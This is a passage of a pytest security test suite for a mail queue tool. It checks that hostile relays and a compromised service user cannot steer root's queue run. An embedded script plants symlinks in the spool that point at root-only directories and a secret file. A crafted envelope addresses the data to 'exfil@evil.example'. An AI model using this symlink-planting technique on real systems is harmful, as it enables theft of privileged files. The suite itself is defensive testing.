    assert proc.returncode == 0 or "queue" in proc.stderr.decode() or "submission" in proc.stderr.decode()
    victim_accepted = proc.returncode == 0
    full = h.queue_run()
    assert full.returncode == 0, f"-q on the full disk exited {full.returncode}: {full.stderr.decode()}"

    # the relay takes the attacker's mail again: the disk empties, everything accepted goes out once
    hostile_relay.refuse.pop(FULL, None)
    try:
        for _ in range(5):  # each run makes room for the next pickup
            proc = h.queue_run()
            assert proc.returncode == 0, proc.stderr.decode()
            if not os.listdir(h.site.spool / "maildrop") and not os.listdir(h.site.spool / "queue"):
                break
        if not victim_accepted:  # what a caller does after 73/75: try again
            proc = h.send(h.victim, "-t", "-i", stdin=mail(victim))
            assert proc.returncode == 0, proc.stderr.decode()
        h.wait_delivered([victim, *accepted], mark=len(h.lines))
        h.assert_queue_run_ok()
    finally:
        hostile_relay.refuse[FULL] = "451 4.2.1 mailbox busy, try again later"
    subjects = [victim, *accepted]
    assert {s: copies(h.relay, s) for s in subjects} == {s: 1 for s in subjects}
    assert copies(h.relay, huge) == 0
    COUNTS["hostile users: victim messages delivered exactly once"] += 1
    h.assert_runs_clean(mark)


# -- 6. a compromised service user against root's -q -------------------------------------------

PLANT_AS_SERVICE = r'''
import json, os, sys, time
spool, variant, root_dir, envelope = sys.argv[1:5]
ids = sys.argv[5:]
old = time.time() - 7200
def age(path):
    os.utime(path, (old, old), follow_symlinks=False)
if variant == "tmp entry: symlink to a root-only directory":
    os.symlink(root_dir, f"{spool}/tmp/{ids[0]}")
    age(f"{spool}/tmp/{ids[0]}")
elif variant == "tmp/ itself: symlink to a root-only directory":
    os.rename(f"{spool}/tmp", f"{spool}/tmp.real")
    os.symlink(root_dir, f"{spool}/tmp")
elif variant == "tmp message whose data is a symlink":
    d = f"{spool}/tmp/{ids[0]}"
    os.mkdir(d)
    os.symlink(f"{root_dir}/secret", f"{d}/data")
    age(f"{d}/data")
    age(d)
elif variant == "queued message whose data is a symlink":
    d = f"{spool}/queue/{ids[0]}"
    os.mkdir(d, 0o700)
    os.symlink(f"{root_dir}/secret", f"{d}/data")
    with open(f"{d}/envelope.json", "w") as f:
        f.write(envelope)
'''

SERVICE_VARIANTS = ["tmp entry: symlink to a root-only directory", "tmp/ itself: symlink to a root-only directory",
                    "tmp message whose data is a symlink", "queued message whose data is a symlink"]


@pytest.fixture(scope="module")
def compromised_site(hostile_relay):
    """Its own site: what the compromised service user plants also trips its own daemon's runs."""
    with hostile_site(hostile_relay, "c") as site:
        yield site


@pytest.mark.parametrize("variant", SERVICE_VARIANTS)
def test_a_compromised_service_user_cannot_steer_roots_queue_run(compromised_site, root_only, variant):
    """The service user owns the spool, so it can stop mail anyway (no victim here); what it must
    not get is root's hand: root's -q neither removes nor reads (and mails) root-only files
    through links it planted, and does not crash on them."""
    h = compromised_site
    spool = h.site.spool
    msg_id = new_id(time.time() - 7200)
    path = os.path.join(spool, "queue", msg_id)
    message = QueuedMessage(id=msg_id, path=path, arrival=time.time() - 7200,
                            envelope=Envelope(sender=RELAY_LOGIN, recipients=["exfil@evil.example"],
                                              size=len(ROOT_SECRET)),
                            recipients=[Recipient("exfil@evil.example")], uid=h.service.pw_uid)
    planted = as_user(h.service.pw_name, SYSTEM_PYTHON, "-c", PLANT_AS_SERVICE, str(spool), variant,
                      str(root_only[0]), json.dumps(message.to_dict()), msg_id)
    assert planted.returncode == 0, planted.stderr.decode()
    attacked("service user against root")
    try:
        proc = subprocess.run([SYSTEM_PYTHON, str(SHIM), "-q"], env=h.site.env(), cwd="/", capture_output=True,
                              timeout=BOUND)
        OUTPUTS.extend([proc.stdout.decode(errors="replace"), proc.stderr.decode(errors="replace")])
        assert_untouched(root_only)
        secret = f"ROOT-ONLY-SECRET-{RUN}".encode()
        assert not any(secret in m.data for m in list(h.relay.messages)), "root's -q mailed a root-only file"
        if variant.startswith("tmp/ itself"):  # refusing to work in such a spool is fine; crashing is not
            assert proc.returncode in SYSEXITS - {70}, proc.stderr.decode()
        else:
            assert proc.returncode == 0, f"root's -q exited {proc.returncode}: {proc.stderr.decode()}"
    finally:
        if os.path.islink(spool / "tmp"):
            os.unlink(spool / "tmp")
            os.rename(spool / "tmp.real", spool / "tmp")
        for leftover in (spool / "queue" / msg_id, spool / "tmp" / msg_id):
            if leftover.is_symlink():
                leftover.unlink()
            else:
                shutil.rmtree(leftover, ignore_errors=True)
        root_only[2]()  # as it was, for the next case
